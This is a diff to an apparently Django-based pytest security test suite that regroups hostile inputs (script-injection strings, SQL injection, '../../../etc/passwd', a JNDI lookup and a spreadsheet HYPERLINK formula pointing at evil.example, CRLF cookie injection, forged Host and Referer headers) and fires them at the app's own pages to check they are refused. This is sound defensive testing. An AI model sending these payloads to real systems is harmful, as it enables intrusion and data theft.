@@ -22,60 +22,40 @@ pytestmark = pytest.mark.django_db
 HAN = re.compile(r"[一-鿿]")
 SCRIPT = "<script>alert(1)</script>"
 BREAKOUT = "\"'><img src=x onerror=alert(1)><!--"
-TEXTS = [
-    SCRIPT,
-    BREAKOUT,
-    "\x00",
-    "王\x00伟",
-    "张" * 10_000,
-    "²",
-    "١٢٣",
-    "１２３",
-    "😀👨‍👩‍👧",
-    "\u202e反过来\u200b",
-    "' OR 1=1 --",
-    "1); DROP TABLE members_member; --",
-    "%' ESCAPE '",
-    "{{ settings.SECRET_KEY }}{% debug %}",
-    "${jndi:ldap://evil.example/a}",
-    "../../../etc/passwd",
-    "a\r\nSet-Cookie: evil=1",
-    "javascript:alert(1)",
-    "//evil.example/",
-    "https://evil.example/",
-    '=HYPERLINK("http://evil.example")',
-    "[]",
-    "null",
+LONG, ENDLESS = "张" * 10_000, "9" * 60
+# 每一种来路有几种写法。一个地址每一种试一个写法，各地址轮着来：几百个地址下来，每个写法都试过许多遍。
+KINDS = [
+    [SCRIPT, BREAKOUT],
+    ["{{ settings.SECRET_KEY }}{% debug %}", "${jndi:ldap://evil.example/a}", '=HYPERLINK("http://evil.example")'],
+    ["\x00", "王\x00伟"],
+    [LONG],
+    ["²", "١٢٣", "１２３"],
+    ["😀👨‍👩‍👧", "\u202e反过来\u200b"],
+    ["' OR 1=1 --", "1); DROP TABLE members_member; --", "%' ESCAPE '", "../../../etc/passwd"],
+    ["a\r\nSet-Cookie: evil=1"],
+    ["javascript:alert(1)", "//evil.example/", "https://evil.example/"],
+    ["[]", "null"],
+    ["0", "-1", "1.5"],
+    ["1e309", "NaN", ENDLESS],
+    ["2147483648", "9223372036854775807", "9223372036854775808"],
+    ["2026-02-30", "2026-13-01", "0000-00-00", "30月2日"],
+    ["99999-12-31", "9999-12-31", "2100年12月31日", "1900-01-01"],
+    ["~", "~~1", "x~1", "\x00~1", "~²"],
+    ["2026-02-30~1", "9999-12-31~1", f"2026-01-01~{'9' * 17}", f"1~{'9' * 30}"],
 ]
-NUMBERS = ["0", "-1", "1.5", "1e309", "NaN", "2147483648", "9223372036854775807", "9223372036854775808", "9" * 60]
-DAYS = [
-    "2026-02-30",
-    "2026-13-01",
-    "0000-00-00",
-    "99999-12-31",
-    "9999-12-31",
-    "2100年12月31日",
-    "1900-01-01",
-    "30月2日",
-]
-CURSORS = ["~", "~~1", "x~1", "2026-02-30~1", "9999-12-31~1", f"2026-01-01~{'9' * 17}", f"1~{'9' * 30}", "\x00~1", "~²"]
-PAYLOADS = TEXTS + NUMBERS + DAYS + CURSORS
-# 一项一项单独试的：别的都照常填，这一项收下了就真的写进去。每一种来路一个代表；全部的字另由 rotated 轮着填。
+# 一项一项单独试的：别的都照常填，这一项收下了就真的写进去。
 WORDS = [
-    SCRIPT,
-    BREAKOUT,
-    "王\x00伟",
-    "张" * 10_000,
-    "²",
-    "😀👨‍👩‍👧",
-    "\u202e反过来\u200b",
-    "a\r\nSet-Cookie: evil=1",
-    "9" * 60,
+    [f"{SCRIPT}{BREAKOUT}😀👨‍👩‍👧\u202e反过来\u200b"],
+    ["王\x00伟"],
+    [LONG],
+    ["²", "a\r\nSet-Cookie: evil=1"],
+    [ENDLESS],
 ]
-KEYS = ["\x00", "²", "-1", "9223372036854775808", "9" * 60, "2026-02-30", "x~1", "//evil.example/"]
-CHOICES = [SCRIPT, "\x00", "²", "9" * 60]  # 只能从列出的里选的，错法不多
+KEYS = [["\x00", "²"], ["-1", "2026-02-30"], ["9223372036854775808"], [ENDLESS], ["x~1", "//evil.example/"]]
+CHOICES = [[SCRIPT, "²"], ["\x00"], [ENDLESS]]  # 只能从列出的里选的，错法不多
 # 网址里该是编号的地方。
-IDS = ["0", "-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "9223372036854775808", "9" * 100, "%F0%9F%98%80", "%FF"]
+IDS = ["0", "9223372036854775808", "9" * 100]
+NO_IDS = ["-1", "²", "٣", "1%00", "%00", "abc", "1.0", "1e3", "%F0%9F%98%80", "%FF"]
 # 第二步才出表单的页面，要走到第二步。
 NEEDS = {"assignment_new": {"role": "branch_secretary"}}
 # 各页之外，程序里认的查询参数。
@@ -89,6 +69,7 @@ FIELDS = {
 }
 # 健康检查的 503 就是它的回答。
 OWN_5XX = {"healthz"}
+ADDRESSES = [row[:3] for row in rows()]
 PATTERNS = {name: pattern for name, pattern, _ in all_views(get_resolver().url_patterns)}
 
 
@@ -198,11 +179,16 @@ class Door:
 
     def __init__(self, place, name, method, target, marks, reader=None):
         self.place, self.name, self.method, self.target = place, name, method, target
+        self.number = ADDRESSES.index((name, method, target))
         self.reader = reader or READERS[next((at for at, mark in enumerate(marks) if mark in "23"), 0)]
         self.url = reverse(name, args=arguments(place, name, target))
         self.query = dict(parse_qsl(query(place, target).lstrip("?"))) | NEEDS.get(name, {})
         self.full = self.url + (f"?{urlencode(self.query)}" if self.query else "")
         self._cookies = self.before = None
+
+    def one_of_each(self, kinds):
+        """One spelling of each kind: another one at the next address."""
+        return [spellings[self.number % len(spellings)] for spellings in kinds]
 
     def client(self, **settings):
         return new_client(self.place, self.reader, **settings)
@@ -269,15 +255,19 @@ GUESSED = {"slip"}
 def test_paths_that_name_nothing(place, name):
     clients = [new_client(place, reader) for reader in ("社区书记", "系统管理员", "没有登录")]
     before = counts()
-    for number in IDS:
+    asked = [*product(IDS, clients, ("GET", "POST"))]
+    if "<key:" in PATTERNS[name]:  # 不是编号的走不到页面，轮着问一遍就够
+        asked += [(wrong, clients[at % 3], ("GET", "POST")[at % 2]) for at, wrong in enumerate(NO_IDS)]
+    else:
+        asked += product(NO_IDS, clients, ("GET", "POST"))
+    for number, client, method in asked:
         path = "/" + re.sub(r"<\w+:\w+>", number, PATTERNS[name])
-        for client, method in product(clients, ("GET", "POST")):
-            said = f"{method} {path[:80]}"
-            response = client.generic(method, path)
-            check(response, name, said)
-            assert response.status_code in (302, 400, 403, 404, 405), f"{said}：{response.status_code}"
-            if response.status_code == 302:
-                assert response["Location"].startswith("/login/"), said
+        said = f"{method} {path[:80]}"
+        response = client.generic(method, path)
+        check(response, name, said)
+        assert response.status_code in (302, 400, 403, 404, 405), f"{said}：{response.status_code}"
+        if response.status_code == 302:
+            assert response["Location"].startswith("/login/"), said
     assert counts() == before
 
 
@@ -324,7 +314,7 @@ def test_a_form_from_elsewhere_is_refused(door):
 
 
 def parameters(door):
-    """{name: payloads to be tried alone} of every query the page's own forms and links use."""
+    """{name: kinds of payloads to be tried alone} of every query the page's own forms and links use."""
     page = door.page()
     names = dict.fromkeys(door.query, KEYS)
     for link in page.links if page else []:
@@ -332,33 +322,39 @@ def parameters(door):
             names |= dict.fromkeys(dict(parse_qsl(urlsplit(link).query, keep_blank_values=True)), KEYS)
     for form in page.forms if page else []:
         if form["method"] == "get" and form["action"] in ("", door.url):
-            names |= {each["name"]: payloads_for(each) for each in form["fields"]}
+            names |= {each["name"]: kinds_for(each) for each in form["fields"]}
     return names
 
 
-def payloads_for(field):
+def kinds_for(field):
     if field["type"] in ("select", "radio", "checkbox"):
         return CHOICES
     return KEYS if field["type"] == "hidden" else WORDS
 
 
-def rotated(names):
+def rotated(names, payloads):
     """As many data as there are payloads, in which every name once has each of them."""
-    for turn in range(len(PAYLOADS)):
-        yield {name: PAYLOADS[(turn + at) % len(PAYLOADS)] for at, name in enumerate(names)}
+    for turn in range(len(payloads) if names else 0):
+        yield {name: payloads[(turn + at) % len(payloads)] for at, name in enumerate(names)}
 
 
 @opened("GET")
 def test_hostile_queries(door):
     client = door.client()
-    names = parameters(door)
-    for name, payloads in names.items():
-        for payload in payloads:
+    for name, kinds in parameters(door).items():
+        for payload in door.one_of_each(kinds):
             said = f"{door.url}?{name}={payload[:40]!r}"
             check(read(client, door.url, door.query | {name: payload}), door.name, said)
-    for data in rotated([*names, *KNOWN_PARAMETERS]) if names else ():
+
+
+@opened("GET")
+@on_any_database
+def test_hostile_queries_together(door):
+    client = door.client()
+    names, payloads = parameters(door), door.one_of_each(KINDS)
+    for data in rotated([*names, *KNOWN_PARAMETERS] if names else (), payloads):
         check(read(client, door.url, data), door.name, f"{door.url} {str(data)[:300]}")
-    for payload in CHOICES:
+    for payload in door.one_of_each(CHOICES):
         said = f"{door.url} 各参数都是 {payload[:40]!r}"
         check(read(client, door.url, dict.fromkeys(KNOWN_PARAMETERS, payload) | door.query), door.name, said)
 
@@ -367,16 +363,7 @@ def test_hostile_queries(door):
 @on_any_database
 def test_queries_that_are_no_queries(door):
     client = door.client()
-    for text in [
-        "%",
-        "%FF=%FE",
-        "q=%00&q=1&q=",
-        "q[]=1&q[$ne]=x",
-        "&&&=",
-        "=" * 500,
-        "a=1;b=2",
-        "after=1~1&after=~&after",
-    ]:
+    for text in ("%&%FF=%FE&q[]=1&q[$ne]=x&a=1;b=2", "q=%00&q=1&q=&&&&=&" + "=" * 500, "after=1~1&after=~&after"):
         check(read(client, f"{door.url}?{text}"), door.name, text[:40])
     many = "&".join(f"a{number}=1" for number in range(5000))
     check(read(client, f"{door.url}?{many}"), door.name, "五千个参数")
@@ -385,40 +372,42 @@ def test_queries_that_are_no_queries(door):
 # ── Heads ──
 
 HEADS = [
-    {"HTTP_HOST": "evil.example"},
-    {"HTTP_HOST": "evil.example:99999"},
-    {"HTTP_HOST": "<script>"},
-    {"HTTP_HOST": "a\x00b"},
-    {"HTTP_HOST": ""},
-    {
-        "HTTP_X_FORWARDED_HOST": "evil.example",
-        "HTTP_X_FORWARDED_PROTO": "gopher",
-        "HTTP_X_FORWARDED_FOR": "x, 999.1.1.1",
-    },
-    {"HTTP_ACCEPT_LANGUAGE": "xx-" + "y" * 5000 + ";q=abc,\x00"},
-    {"HTTP_REFERER": "http://[::1"},
-    {"HTTP_REFERER": SCRIPT},
-    {"HTTP_REFERER": "http://testserver/" + "张" * 3000},
-    {"HTTP_REFERER": "http://testserver/people/?q=王伟"},
-    {"HTTP_REFERER": "javascript:alert(1)"},
-    {
-        "HTTP_ACCEPT": "\x00",
-        "HTTP_ACCEPT_ENCODING": "x" * 5000,
-        "HTTP_IF_MODIFIED_SINCE": "²",
-        "HTTP_RANGE": "bytes=9-1",
-    },
-    {"HTTP_COOKIE": "session=" + "a" * 8000},
-    {"HTTP_COOKIE": 'session=\x00; csrf=²; text_size=<script>; messages=[["x"; =; ;;'},
-    {"HTTP_COOKIE": "session=../../etc/passwd; text_size=" + "xl" * 500},
-    {"REMOTE_ADDR": "no address"},
-    {"QUERY_STRING": "\xff\xfe%"},
+    [{"HTTP_HOST": host} for host in ("evil.example", "evil.example:99999", "<script>", "a\x00b", "")],
+    [
+        {
+            "HTTP_X_FORWARDED_HOST": "evil.example",
+            "HTTP_X_FORWARDED_PROTO": "gopher",
+            "HTTP_X_FORWARDED_FOR": "x, 999.1",
+        },
+        {"REMOTE_ADDR": "no address"},
+    ],
+    [
+        {"HTTP_ACCEPT_LANGUAGE": "xx-" + "y" * 5000 + ";q=abc,\x00"},
+        {
+            "HTTP_ACCEPT": "\x00",
+            "HTTP_ACCEPT_ENCODING": "x" * 5000,
+            "HTTP_IF_MODIFIED_SINCE": "²",
+            "HTTP_RANGE": "bytes=9-1",
+        },
+    ],
+    [
+        {"HTTP_REFERER": referer}
+        for referer in ("http://[::1", SCRIPT, "http://testserver/" + "张" * 3000, "javascript:alert(1)")
+    ],
+    [{"HTTP_REFERER": "http://testserver/people/?q=王伟"}],
+    [
+        {"HTTP_COOKIE": "session=" + "a" * 8000},
+        {"HTTP_COOKIE": 'session=\x00; csrf=²; text_size=<script>; messages=[["x"; =; ;;'},
+        {"HTTP_COOKIE": "session=../../etc/passwd; text_size=" + "xl" * 500},
+    ],
+    [{"QUERY_STRING": "\xff\xfe%"}],
 ]
 
 
 @opened("GET")
 @on_any_database
 def test_hostile_heads(door):
-    for head in HEADS:
+    for head in door.one_of_each(HEADS):
         said = f"{door.name} {str(head)[:60]}"
         response = door.client().get(door.full, **head)
         check(response, door.name, said)
@@ -501,12 +490,18 @@ def test_hostile_fields(door):
         for each in one_of_a_kind(form["fields"]):
             if (field := each["name"]) not in base:
                 continue
-            for payload in payloads_for(each):
+            for payload in door.one_of_each(kinds_for(each)):
                 send(door, base | {field: payload}, f"{name} 的 {field}={payload[:40]!r}")
             send(door, {k: v for k, v in base.items() if k != field}, f"{name} 缺 {field}")
             send(door, base | {field: ["a", "b", SCRIPT]}, f"{name} 的 {field} 有三个")
-        for data in rotated(base) if base else ():
-            send(door, data, f"{name} {str(data)[:300]}")
+
+
+@opened("POST")
+@on_any_database
+def test_hostile_fields_together(door):
+    for form in own_forms(door):
+        for data in rotated(ordinary(form), door.one_of_each(KINDS)):
+            send(door, data, f"{door.name} {str(data)[:300]}")
 
 
 def one_of_a_kind(fields):
